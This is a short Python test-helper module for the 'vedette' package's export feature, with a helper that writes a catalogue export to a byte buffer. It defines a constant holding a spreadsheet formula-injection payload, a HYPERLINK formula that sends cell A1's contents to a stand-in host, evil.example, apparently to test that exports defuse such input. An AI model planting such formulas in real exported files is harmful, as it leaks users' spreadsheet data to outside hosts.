"""What tests of exports share."""

from io import BytesIO

from vedette import export
from vedette.store import Catalogue, Filters

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
"""The name of an exercise in the catalogue of these tests."""


def exported(form: str, catalogue: Catalogue, filters: Filters | None = None) -> bytes:
    """An export as a whole."""
    out = BytesIO()
    export.write(form, catalogue, filters or Filters(), out)
    return out.getvalue()
